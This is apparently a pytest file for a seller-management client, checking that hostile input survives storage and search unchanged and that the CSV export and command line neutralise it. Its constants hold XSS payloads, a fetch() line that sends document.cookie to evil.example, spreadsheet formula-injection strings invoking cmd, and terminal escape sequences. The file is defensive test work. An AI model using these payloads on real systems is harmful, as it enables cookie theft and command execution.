"""Hostile text through the client, the store, the offline search and the CSV export.

Buyer names, product titles, questions, answers, invoice numbers, shipping tracking codes and
tracking-code snippets full of HTML, scripts, links, right-to-left marks, emoji and 100 KB
strings come back exactly as they went in (nothing escaped, stripped or cut), word search
finds them and takes any of them as a query, and the CSV export keeps the text while
defusing spreadsheet formulas (cells starting with =, +, -, @, tab, CR).

The command line prints them escaped (`safe_text.for_terminal`): no control sequence, C1
control or bidi control reaches the terminal, on stdout, stderr or in the log file. Showing
them as literal text in every view is the GUI's part (tests/gui), not tested here.
"""

from __future__ import annotations

import asyncio
import csv
import shutil
import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from sellerdesk.api.enums import Event, Provider, ShippingStatus
from sellerdesk.api.models import TrackingCodeDraft
from sellerdesk.services.csv_file import defuse
from sellerdesk.services.inbox import AnswerTooLong
from sellerdesk.services.session import Session
from sellerdesk.store.rows import OrderFilter, QuestionFilter
from tests.stress.sandbox_db import (
    add_unanswered_questions,
    order_ids,
    set_order_buyer,
    set_question,
)
from tests.stress.support import drain, open_session
from tests.support.cli import run_cli
from tests.support.sandbox import Sandbox

HTML = ('<b>Ana</b> <img src=x onerror="alert(document.cookie)"> '
        '<a href="javascript:alert(1)">clic</a>')
SCRIPT = "</script><script>fetch('https://evil.example/?c='+document.cookie)</script>"
LINK = "https://evil.example/login?next=%2F%2Fphish&access=<x>#frag"
RTL = "\u202eevil\u202c \u200fمرحبا\u200f \u2067שלום\u2069 \u200b\u200d"
EMOJI = "👩🏽‍💻🇦🇷🔥😀 e\u0301 Ñandú"
QUOTES = "\"'`;-- \\ ${x} {{7*7}} %s %n &amp; &lt;"
HOSTILE = " ".join([HTML, SCRIPT, LINK, RTL, EMOJI, QUOTES, "Qwertzorzal"])
HUGE = ("<div>" + EMOJI + SCRIPT + RTL + "</div>\n") * 700 + " Kxyzzyq"  # ~100 KB
FORMULAS = ['=HYPERLINK("https://evil.example","clic")', "+54 11 4822-3190",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
QUERIES = ['" OR * NEAR( ^ -- ; DROP TABLE orders', "<script>", "\u202e", "🙂", "",
           "a*", '"', "NOT AND OR", "((((", "title:x", "qwertzorzal", "ñandu"]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory, seeded_db: Path) -> dict[str, object]:
    """The demo shop with hostile buyers and questions written into its database."""
    db = tmp_path_factory.mktemp("hostile") / "sandbox.db"
    shutil.copy(seeded_db, db)
    newest = order_ids(db, 2 + len(FORMULAS))
    set_order_buyer(db, newest[0], name=HOSTILE, product_title=HTML + " " + EMOJI)
    set_order_buyer(db, newest[1], name=HUGE)
    for order_id, name in zip(newest[2:], FORMULAS, strict=True):
        set_order_buyer(db, order_id, name=name)
    asked, huge_question = add_unanswered_questions(db, 2, per_thread=1)
    set_question(db, asked, text=HOSTILE, asker=HTML + RTL)
    set_question(db, huge_question, text=HUGE)
    return {"db": db, "hostile_order": newest[0], "huge_order": newest[1],
            "formula_orders": dict(zip(newest[2:], FORMULAS, strict=True)),
            "asked": asked, "huge_question": huge_question}


Hostile = tuple[Session, Sandbox, dict[str, object]]


@pytest.fixture
async def hostile(hostile_db: dict[str, object], tmp_path: Path) -> AsyncIterator[Hostile]:
    db = tmp_path / "sandbox.db"
    shutil.copy(str(hostile_db["db"]), db)
    sb = Sandbox(db=db).start()
    session = await open_session(sb, tmp_path / "data")
    await session.sync.sync()
    yield session, sb, hostile_db
    await session.aclose()
    sb.stop()


async def test_hostile_records_round_trip_and_are_searchable(
        hostile: Hostile) -> None:
    session, _, ids = hostile
    order = await session.orders.order(str(ids["hostile_order"]))
    assert order is not None and order.buyer is not None and order.products
    assert order.buyer.name == HOSTILE and order.buyer.nickname == HOSTILE
    assert order.products[0].title == HTML + " " + EMOJI
    big = await session.orders.order(str(ids["huge_order"]))
    assert big is not None and big.buyer is not None and big.buyer.name == HUGE
    question = await session.inbox.question(int(str(ids["asked"])))
    assert question is not None and question.question is not None
    assert question.question.text == HOSTILE
    assert question.from_ is not None and question.from_.name == HTML + RTL
    huge = await session.inbox.question(int(str(ids["huge_question"])))
    assert huge is not None and huge.question is not None and huge.question.text == HUGE

    store = session.store
    assert str(ids["hostile_order"]) in await store.run(store.search.orders, "qwertzorzal")
    assert str(ids["huge_order"]) in await store.run(store.search.orders, "kxyzzyq")
    assert str(ids["hostile_order"]) in await store.run(store.search.orders, "ñandu onerror")
    assert int(str(ids["asked"])) in await store.run(store.search.questions, "Qwertzorzal")
    for words in [HOSTILE, HUGE, *FORMULAS, *QUERIES]:
        await store.run(store.search.orders, words)
        await store.run(store.search.questions, words)
        await store.run(store.search.threads, words)
        await session.orders.orders(OrderFilter(query=words), limit=5)
        await store.run(store.cache.questions, QuestionFilter(query=words), limit=5)


async def test_hostile_writes_reach_the_server_unchanged(
        hostile: Hostile) -> None:
    session, sb, ids = hostile
    answer = (HTML + " " + RTL + " " + EMOJI + " " + LINK)[:2000]
    entry = await session.inbox.answer(int(str(ids["asked"])), answer)
    with pytest.raises(AnswerTooLong) as too_long:  # the composer keeps it; nothing queued
        await session.inbox.answer(int(str(ids["huge_question"])), HUGE)
    assert "2000" in str(too_long.value) or "2,000" in str(too_long.value)
    assert not await session.outbox.entries(entity=f"question:{ids['huge_question']}")

    draft = TrackingCodeDraft(name=HTML + RTL, code=HUGE, provider=Provider.OTHER,
                              event=Event.CONTACT_BUTTON, options={"html": SCRIPT})
    await session.tracking.create(draft)
    pending = await session.orders.orders(OrderFilter(shipping="pending"), limit=50)
    order = next(o for o in pending if len(o.shippings or []) == 1)
    ship = (order.shippings or [])[0]
    assert ship.id is not None
    await session.orders.update_shipping(order, ship.id, status=ShippingStatus.ON_ROUTE,
                                         tracking_code=FORMULAS[2])
    other = next(o for o in pending if o.id != order.id)
    await session.orders.update_invoice(other, invoiced=True, number="<b>0001</b>\u202e-😀",
                                        type=SCRIPT)
    await drain(session)

    get = sb.get
    said = (await asyncio.to_thread(get, f"/questions/{ids['asked']}")).json()
    assert said["answer"]["text"] == answer and entry.id
    codes = (await asyncio.to_thread(get, "/metrics")).json()
    created = [c for c in codes if c["name"] == HTML + RTL]
    assert len(created) == 1 and created[0]["code"] == HUGE
    full = (await asyncio.to_thread(get, f"/metrics/{created[0]['id']}")).json()
    assert full["options"] == {"html": SCRIPT}
    server_order = (await asyncio.to_thread(get, f"/orders/{order.id}")).json()
    assert server_order["shippings"][0]["tracking_code"] == FORMULAS[2]
    invoice = (await asyncio.to_thread(get, f"/orders/{other.id}")).json()["invoice"]
    assert (invoice["number"], invoice["type"]) == ("<b>0001</b>\u202e-😀", SCRIPT)

    await session.sync.sync(full=True)  # and back into the cache, unchanged
    cached_code = await session.tracking.code(int(created[0]["id"]))
    assert cached_code is not None and cached_code.code == HUGE
    assert cached_code.name == HTML + RTL and cached_code.options == {"html": SCRIPT}
    cached = await session.inbox.question(int(str(ids["asked"])))
    assert cached is not None and cached.answer is not None and cached.answer.text == answer


async def test_csv_export_keeps_the_text_and_defuses_formulas(
        hostile: Hostile, tmp_path: Path) -> None:
    session, sb, ids = hostile
    pending = await session.orders.orders(OrderFilter(shipping="pending"), limit=50)
    order = next(o for o in pending if len(o.shippings or []) == 1)
    ship = (order.shippings or [])[0]
    assert ship.id is not None
    await session.orders.update_shipping(order, ship.id, status=ShippingStatus.ON_ROUTE,
                                         tracking_code="=cmd|' /C calc'!A0")
    await drain(session)

    path = tmp_path / "orders.csv"
    # Every order the client can read (the field's unreadable one left out).
    assert await session.orders.export_csv(path) == sb.readable_orders()
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = {row["id"]: row for row in csv.DictReader(fh)}
    hostile_row = rows[str(ids["hostile_order"])]
    # Exact but for a ' where a ';' or ',' reader would start a cell with a formula (";--").
    assert hostile_row["buyer"] == defuse(HOSTILE) and hostile_row["nickname"] == defuse(HOSTILE)
    assert hostile_row["buyer"].replace(";'-", ";-") == HOSTILE
    assert HTML + " " + EMOJI in hostile_row["products"]
    assert rows[str(ids["huge_order"])]["buyer"] == HUGE
    formula_orders = ids["formula_orders"]
    assert isinstance(formula_orders, dict)
    for order_id, name in formula_orders.items():
        row = rows[str(order_id)]
        # Text kept, not a formula: a ' before it (and after a tab or CR inside it).
        assert row["buyer"] == defuse(name) and row["buyer"][0] == "'", (name, row["buyer"])
        assert row["nickname"] == defuse(name)
    assert rows[order.id]["tracking_codes"] == "'=cmd|' /C calc'!A0"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell[:40])


# -- the terminal: what the command line prints cannot drive it ------------------------------

TERMINAL = ("\x1b[31mred\x1b[0m \x1b]0;pwn\x07 \x1b[2J \x9b31m \u202egnp.exe \u2066i\u2069 "
            "\x9d0;t\x9c bell\x07 del\x7f nul\x00 cr\rback a\u2028b\u2029c Termzorzal")
TERMINAL_ASKER = "\x1b[5mAna\x1b[0m \u202egnp.exe\x07"


def acts_on_a_terminal(ch: str) -> bool:
    """C0 but tab/newline, DEL, C1, bidi controls, line/paragraph separators."""
    code = ord(ch)
    return ((code < 0x20 and ch not in "\t\n") or 0x7f <= code <= 0x9f
            or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
                     "\u061c\u2028\u2029")


def assert_inert(*outputs: str) -> None:
    for out in outputs:
        bad = sorted({f"U+{ord(c):04X}" for c in out if acts_on_a_terminal(c)})
        assert not bad, f"raw controls reached the terminal: {bad}"


@pytest.fixture
def terminal_sandbox(seeded_db: Path, tmp_path: Path) -> Iterator[tuple[Sandbox, int]]:
    db = tmp_path / "sandbox.db"
    shutil.copy(seeded_db, db)
    (asked,) = add_unanswered_questions(db, 1, per_thread=1)
    set_question(db, asked, text=TERMINAL, asker=TERMINAL_ASKER)
    sb = Sandbox(db=db).start()
    yield sb, asked
    sb.stop()


@pytest.mark.early  # long: started first (tests/conftest.py)
def test_the_command_line_prints_hostile_text_escaped(
        terminal_sandbox: tuple[Sandbox, int], tmp_path: Path) -> None:
    sb, asked = terminal_sandbox
    data = tmp_path / "data"
    outputs: list[str] = []

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        r = run_cli(sb, data, *args)
        outputs.extend([r.stdout, r.stderr])
        return r

    assert cli("sync").returncode == 0
    listing = cli("questions", "--unanswered").stdout
    row = next(line for line in listing.splitlines() if line.startswith(f"{asked}\t"))
    # Visible and inert: the escapes show what was there.
    assert "\\x1b[31mred\\x1b[0m" in row and "\\x1b]0;pwn\\x07" in row
    assert "\\x9b31m" in row and "\\u202egnp.exe" in row and "\\u2066i\\u2069" in row
    assert "\\x1b[5mAna\\x1b[0m" in row
    assert str(asked) in cli("questions", "--search", "termzorzal").stdout

    # Our own words around theirs: a tracking code, a discarded answer, a usage error.
    r = cli("tracking", "create", "\x1b]0;pwned\x07\u202eexe.txt", "<b>\x1b[2J</b>",
            "--provider", "other", "--event", "NAVIGATION")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "\\x1b]0;pwned\\x07\\u202eexe.txt" in cli("tracking", "list").stdout
    sb.stop()
    assert cli("answer", str(asked), "ok \x1b[2J \u202e fin").returncode == 3
    sb.start()
    entry = cli("outbox").stdout.split("\t", 1)[0]
    r = cli("outbox", "--discard", entry)
    assert r.returncode == 0 and '"ok \\x1b[2J \\u202e fin"' in r.stdout, r.stdout
    r = cli("ship", "\x1b[2J\x1b]0;x\x07", "1", "--status", "pending")
    assert r.returncode == 2 and "\\x1b[2J\\x1b]0;x\\x07" in r.stderr
    r = cli("-v", "questions", "--search", "\x1b[31m\u202e")  # log lines on stderr too
    assert r.returncode == 0 and "INFO sellerdesk" in r.stderr
    assert_inert(*outputs)
    log = (data / "logs" / "sellerdesk.log").read_text(encoding="utf-8")
    assert_inert(log)
